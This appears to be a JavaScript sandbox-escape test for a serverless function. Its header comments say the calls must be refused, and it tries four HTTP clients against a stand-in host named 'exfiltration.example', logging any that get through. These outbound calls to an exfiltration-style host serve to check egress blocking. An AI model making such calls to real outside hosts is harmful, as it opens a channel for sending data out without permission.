// tries: to call a host that is not allowed
// must: refused
const attempts = [
  async () => fetch('https://exfiltration.example/').then((r) => r.status),
  async () => new Promise((ok, no) => require('https').get('https://exfiltration.example/', (r) => ok(r.statusCode)).on('error', no)),
  async () => require('axios').get('http://exfiltration.example/').then((r) => r.status),
  async () => require('lp-faas-toolbelt').Toolbelt.HTTPClient()('http://exfiltration.example/'),
]
async function lambda() {
  const escaped = []
  for (const attempt of attempts) {
    try {
      const got = await attempt()
      if (got !== undefined) escaped.push(String(got).slice(0, 100))
    } catch {}
  }
  return { escaped }
}
